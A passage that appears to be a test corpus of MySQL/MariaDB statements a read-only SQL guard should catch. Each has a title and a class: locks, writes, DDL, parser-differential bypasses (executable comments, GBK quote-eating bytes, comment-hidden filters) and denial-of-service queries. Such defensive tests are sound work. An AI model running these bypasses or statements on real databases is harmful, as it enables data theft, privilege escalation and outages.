SELECT * FROM orders FOR UPDATE

-- title: rows for sharing
-- class: lock
SELECT * FROM orders LOCK IN SHARE MODE

-- title: rows for sharing in newer words
-- class: lock
SELECT * FROM orders FOR SHARE SKIP LOCKED

-- title: rows for change in a subquery
-- class: lock
SELECT count(*) FROM (SELECT id FROM orders FOR UPDATE) AS t

-- title: tables
-- class: lock
LOCK TABLES orders WRITE

-- title: all tables
-- class: lock
FLUSH TABLES WITH READ LOCK

-- title: a handler on a table
-- class: lock
HANDLER employees OPEN

-- title: rows by a handler
-- class: lock
HANDLER employees READ FIRST

-- title: others ended
-- class: lock
KILL 1

-- title: the server ended
-- class: lock
SHUTDOWN

-- title: a user variable set
-- class: write
SELECT @a := max(salary) FROM employees

-- title: a user variable set by INTO
-- class: write
SELECT max(amount) INTO @a FROM orders

-- title: a user variable read
-- class: write
SELECT @a

-- title: a user variable that numbers rows
-- class: write
SELECT @n := @n + 1 AS n, id FROM orders, (SELECT @n := 0) AS t

-- title: a system variable
-- class: write
SET SESSION max_statement_time = 0

-- title: a system variable for one statement
-- class: write
SET STATEMENT max_statement_time = 0 FOR SELECT 1

-- title: the read-only setting
-- class: write
SET SESSION tx_read_only = 0

-- title: the SQL mode
-- class: write
SET sql_mode = 'ANSI_QUOTES'

-- title: a row replaced
-- class: write
REPLACE INTO categories (id) VALUES (1)

-- title: a deletion behind a WITH query
-- class: write
WITH a AS (SELECT 1) DELETE FROM orders

-- title: a deletion that returns rows
-- class: write
DELETE FROM orders RETURNING *

-- title: a deletion from several tables
-- class: write
DELETE o FROM orders o JOIN customers c ON c.id = o.customer_id

-- title: all rows at once
-- class: write
TRUNCATE TABLE orders

-- title: the next number
-- class: write
SELECT NEXT VALUE FOR taken

-- title: the next number by function
-- class: write
SELECT NEXTVAL(taken)

-- title: the last number set
-- class: write
SELECT LAST_INSERT_ID(42)

-- title: a procedure that studies an answer
-- class: write
SELECT id FROM orders PROCEDURE ANALYSE()

-- title: DO runs and says nothing
-- class: write
DO SLEEP(30)

-- title: the end of the transaction
-- class: write
COMMIT

-- title: a transaction that may write
-- class: write
START TRANSACTION READ WRITE

-- title: an XA transaction
-- class: write
XA START 'a'

-- title: statistics
-- class: write
ANALYZE TABLE orders PERSISTENT FOR ALL

-- title: a table in place of another
-- class: ddl
RENAME TABLE orders TO taken

-- title: a temporary table
-- class: ddl
CREATE TEMPORARY TABLE taken AS SELECT * FROM customers

-- title: a database
-- class: ddl
CREATE DATABASE taken

-- title: an account
-- class: ddl
CREATE USER taken IDENTIFIED BY 'a'

-- title: rights
-- class: ddl
GRANT ALL ON *.* TO CURRENT_USER()

-- title: a password
-- class: ddl
SET PASSWORD = PASSWORD('a')

-- title: a trigger
-- class: ddl
CREATE TRIGGER taken BEFORE INSERT ON orders FOR EACH ROW SET NEW.amount = 0

-- title: another database
-- class: ddl
USE mysql

-- title: the log's beginning
-- class: ddl
RESET MASTER

-- title: tables put in order
-- class: ddl
OPTIMIZE TABLE orders

-- title: a comment that runs
-- class: parser differential
SELECT 1 /*! UNION SELECT salary FROM employees */

-- title: a comment that runs on this version
-- class: parser differential
SELECT 1 AS a /*!50000 , (SELECT max(salary) FROM employees) AS b */

-- title: a comment that runs on MariaDB
-- class: parser differential
SELECT 1 AS a /*M! , (SELECT max(salary) FROM employees) AS b */

-- title: a comment that runs, without a space
-- class: parser differential
SELECT/*!id_card*/FROM customers

-- title: a comment that runs holds the end of another
-- class: parser differential
SELECT 1 AS a /*!99999 */ , 2 AS b FROM employees -- */

-- title: minus minus without a space is arithmetic
-- class: parser differential
SELECT 1--1 AS a, id_card FROM customers

-- title: minus minus and a non-breaking space
-- class: parser differential
-- escaped: yes
SELECT 1 --\u00a0.salary FROM employees AS \u00a0

-- title: minus minus and an ideographic space
-- class: parser differential
-- escaped: yes
SELECT 1 --\u3000.salary FROM employees AS \u3000

-- title: a hash comment
-- class: parser differential
SELECT id # , id_card
FROM customers WHERE id_card > '0'

-- title: a hash comment that hides the filter
-- class: parser differential
SELECT * FROM employees # WHERE 1 = 0

-- title: a backslash keeps the quote
-- class: parser differential
SELECT '\' AS a, name FROM employees -- '

-- title: a backslash keeps nothing where it is off
-- class: parser differential
SELECT 'a\' UNION SELECT name FROM employees -- '

-- title: double quotes are a text
-- class: parser differential
SELECT "id_card" AS t FROM customers ORDER BY id

-- title: double quotes in a text in double quotes
-- class: parser differential
SELECT "a"" , id_card" AS t FROM customers ORDER BY id

-- title: two literals beside each other are one
-- class: parser differential
SELECT 'a' 'b' AS ab FROM employees

-- title: a character set before a literal
-- class: parser differential
SELECT _gbk'縗' AS a, _binary'a' AS b

-- title: a byte that eats the quote in another character set
-- class: parser differential
SELECT _gbk 0xbf27 AS a FROM employees

-- title: a national literal
-- class: parser differential
SELECT N'a' AS a FROM employees

-- title: a hexadecimal literal as a text
-- class: parser differential
SELECT id FROM products WHERE name = 0x50726f647563742031

-- title: a hexadecimal number as a name
-- class: parser differential
SELECT 0xg FROM employees

-- title: a number that begins a name
-- class: parser differential
SELECT 1e FROM (SELECT 1 AS 1e) AS t

-- title: an exponent without digits
-- class: parser differential
SELECT 1.e(1) FROM employees

-- title: a function with a space before its bracket
-- class: parser differential
SELECT count (*) AS n FROM employees

-- title: a call without brackets
-- class: parser differential
SELECT CURRENT_TIMESTAMP, UTC_DATE, LOCALTIME, employees.salary FROM employees

-- title: an alias in single quotes
-- class: parser differential
SELECT id AS 'id_card' FROM customers ORDER BY 'id_card'

-- title: an alias without AS in double quotes
-- class: parser differential
SELECT id "id_card" FROM customers ORDER BY id

-- title: bars are OR
-- class: parser differential
SELECT id || id_card FROM customers

-- title: ampersands are AND
-- class: parser differential
SELECT id FROM customers WHERE 1 && id_card > '0'

-- title: XOR as an operator
-- class: parser differential
SELECT id FROM customers WHERE 1 XOR id_card > '0'

-- title: an exclamation mark is NOT
-- class: parser differential
SELECT id FROM customers WHERE !(id_card > '0')

-- title: a delimiter of the client
-- class: parser differential
DELIMITER //
DELETE FROM orders //

-- title: the client's end of a statement
-- class: parser differential
SELECT 1 AS a\\G

-- title: an interval before the sum
-- class: parser differential
SELECT INTERVAL 1 DAY + created_at AS d FROM employees

-- title: LIMIT with two numbers
-- class: parser differential
SELECT salary FROM employees LIMIT 0, 10

-- title: a placeholder
-- class: parser differential
SELECT ? AS a

-- title: a Python place
-- class: parser differential
SELECT %(region)s AS a, '%s' AS b

-- title: a table called as a keyword
-- class: parser differential
SELECT * FROM `select`

-- title: a member of a JSON array
-- class: parser differential
SELECT 7 MEMBER OF ('[7]') AS m, (SELECT max(salary) FROM employees) AS s

-- title: an arrow into a hidden column
-- class: parser differential
SELECT id_card -> '$.a', id_card ->> '$.b' FROM customers

-- title: a keyword's function with a database
-- class: parser differential
SELECT mysql.sleep(30), shop.count(1)

-- title: a text of a gigabyte
-- class: denial of service
SELECT REPEAT('a', 1000000000)

-- title: a padded text of a gigabyte
-- class: denial of service
SELECT LPAD('a', 1000000000, 'b'), RPAD('a', 1000000000, 'b')

-- title: spaces
-- class: denial of service
SELECT SPACE(1000000000)

-- title: a sequence table
-- class: denial of service
SELECT count(*) AS n FROM seq_1_to_1000000000

-- title: a pattern that tries for ever
-- class: denial of service
SELECT count(*) AS n FROM customers WHERE 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' REGEXP '^(a+)+$b'

-- title: a packed text opened
-- class: denial of service
SELECT UNCOMPRESS(CONCAT(0xFFFFFF3F, 'x'))

-- title: random bytes
-- class: denial of service
SELECT RANDOM_BYTES(1024)
